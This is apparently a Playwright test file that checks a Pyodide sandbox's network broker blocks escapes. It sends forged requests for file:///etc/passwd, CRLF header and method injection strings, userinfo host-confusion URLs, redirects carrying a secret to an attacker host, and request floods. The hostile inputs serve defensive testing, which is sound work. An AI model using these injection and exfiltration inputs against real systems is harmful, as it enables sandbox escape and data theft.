import { expect, test } from "@playwright/test";
import type { ExecutionResult } from "../../src/domain/execution-result.ts";
import { PROBE_DOMAIN } from "./escape-cases.ts";
import { type GrantingHost, startGrantingHost } from "./granting-host.ts";
import { openSealedApp, type SealedApp } from "./sealed-app.ts";

const out = (result: ExecutionResult): string => result.output.map((chunk) => chunk.text).join("");

/** Runs each statement, and prints what it gave or why it did not. */
const HEAD = `
import json, urllib.request
from pyodide.http import pyfetch
import skep_fetch
def show(name, ask):
    try:
        answer = ask()
        print(name, "GOT", answer if isinstance(answer, str) else answer.read().decode())
    except BaseException as error:
        print(name, type(error).__name__, str(error)[:200].replace("\\n", " "))
`;

for (const headers of [true, false]) {
  test.describe
    .serial(`the broker, ${headers ? "with the served headers" : "on a plain static host"}`, () => {
      let app: SealedApp;
      let granted: GrantingHost;

      test.beforeAll(async () => {
        test.setTimeout(240_000);
        granted = await startGrantingHost();
        app = await openSealedApp(headers);
        await app.page.evaluate((url) => fetch(url, { mode: "no-cors" }), `${app.attacker.http}/control`);
        expect(app.attacker.arrivals).toContain("request GET /control");
      });

      test.afterAll(async () => {
        const { lookups } = await app.close();
        await granted.close();
        expect(lookups.match(new RegExp(`[a-z0-9]+\\.${PROBE_DOMAIN}`, "g")), "names that were looked up").toBeNull();
      });

      /** Runs and says what reached the attacker meanwhile. */
      const attack = async (code: string, allow: readonly string[] = [granted.host]): Promise<{ text: string; result: ExecutionResult }> => {
        const before = app.attacker.arrivals.length;
        const { result } = await app.run(HEAD + code, 40, [], allow);
        expect(app.attacker.arrivals.slice(before), "what reached the attacker").toEqual([]);
        expect(await app.damage()).toEqual([]);
        return { text: out(result), result };
      };

      test("a granted host answers calls that wait and calls that are awaited, without anything of the browser", async () => {
        const { text } = await attack(`
show("sync", lambda: urllib.request.urlopen("http://${granted.host}/sync"))
response = await pyfetch("http://${granted.host}/async", method="POST", body="x" * 1000)
print("async", response.status, await response.string(), dict(response.headers).get("set-cookie"))
`);
        expect(text).toBe("sync GOT granted\nasync 200 granted None\n");
        expect(granted.requests.map(({ method, url, bytes }) => [method, url, bytes])).toEqual([
          ["GET", "/sync", 0],
          ["POST", "/async", 1000],
        ]);
        for (const { headers: sent } of granted.requests) expect([sent.cookie, sent.referer, sent.authorization]).toEqual([undefined, undefined, undefined]);
      });

      test("without a grant nothing is sent, and the result says why", async () => {
        const { text } = await attack(`show("off", lambda: urllib.request.urlopen("${app.attacker.http}/off"))`, []);
        expect(text).toContain("no network");
        const other = await attack(`show("other", lambda: urllib.request.urlopen("${app.attacker.http}/other"))`);
        expect(other.text).toContain("is not among the hosts that are granted");
      });

      test("messages of the program's own making get no further than its calls", async () => {
        const { text } = await attack(`
skep_fetch.grant(True)
async def forge(name, **changes):
    request = {"method": "GET", "url": "${app.attacker.http}/forged", "headers": [], "timeoutMs": None, "granted": True, "waits": False, **changes}
    try:
        handed = await skep_fetch._host.ask(json.dumps(request), None)
        print(name, json.loads(handed.head)["reason"])
    except BaseException as error:
        print(name, type(error).__name__)
await forge("plain")
await forge("file", url="file:///etc/passwd")
await forge("data", url="data:text/plain,x")
await forge("blob", url="blob:${app.url}x")
await forge("own page", url="${app.url}index.html")
await forge("name", url="https://stolen1.${PROBE_DOMAIN}/")
await forge("user", url="http://${granted.host}@stolen2.${PROBE_DOMAIN}/")
await forge("header", url="http://${granted.host}/", headers=[["x-a", "1\\r\\nHost: evil"]])
await forge("method", url="http://${granted.host}/", method="GET / HTTP/1.1\\r\\nX: ")
await forge("many headers", url="http://${granted.host}/", headers=[["x-a", "v" * 60000]] * 5000)
await forge("long", url="http://${granted.host}/" + "x" * 1000000)
import js
from pyodide.ffi import to_js
try:
    js.self.postMessage(to_js({"type": "fetch", "request": 1, "url": "${app.attacker.http}/post"}, dict_converter=js.Object.fromEntries))
except AttributeError:
    print("no postMessage")
try:
    await js.fetch("http://${granted.host}/direct")
except Exception as error:
    print("direct", "the sandbox has no network" in str(error))
`);
        expect(text.trim().split("\n")).toEqual([
          "plain unasked",
          "file address",
          "data address",
          "blob address",
          "own page address",
          "name unasked",
          "user address",
          "header request",
          "method request",
          "many headers size",
          "long address",
          "no postMessage",
          "direct True",
        ]);
        expect(granted.requests.some((request) => request.url === "/direct")).toBe(false);
      });

      test("a redirect to a host that is not granted is not followed", async () => {
        const before = granted.requests.length;
        const { text } = await attack(`
show("redirect", lambda: urllib.request.urlopen("http://${granted.host}/to?${encodeURIComponent(`${app.attacker.http}/redirected?secret`)}"))
show("inside", lambda: urllib.request.urlopen("http://${granted.host}/to?/here"))
`);
        expect(text).toContain("it redirects to a host that is not granted");
        expect(text).toContain("inside GOT granted");
        expect(granted.requests.slice(before).map((request) => request.url.slice(0, 4))).toEqual(["/to?", "/to?", "/her"]);
      });

      test("a flood of requests and a body without measure end where the limits are", async () => {
        const before = granted.requests.length;
        const { text } = await attack(`
import asyncio
async def one(index):
    try:
        return (await pyfetch(f"http://${granted.host}/flood{index}")).status
    except OSError as error:
        return error.reason
answers = await asyncio.gather(*(one(index) for index in range(260)))
print(answers.count(200), answers.count("count"))
try:
    await pyfetch("http://${granted.host}/large", method="POST", body=b"x" * (9 * 1024 * 1024))
except OSError as error:
    print(error.reason)
`);
        expect(text).toBe("200 60\ncount\n");
        expect(granted.requests.length - before).toBe(200);
      });

      test("an answer that comes after its run belongs to nobody", async () => {
        const { result } = await attack(`
import os
task = __import__("asyncio").ensure_future(pyfetch("http://${granted.host}/late?wait=700"))
await __import__("asyncio").sleep(0.2)
os._exit(0)
`);
        expect(result.exitCode).toBe(0);
        const { text } = await attack(`
import asyncio
await asyncio.sleep(1.2)
handed = skep_fetch._host.waitFor(50)
print("late", handed if not handed else handed.head)
`);
        expect(text).toMatch(/^late (None|jsnull)\n$/);
      });
    });
}
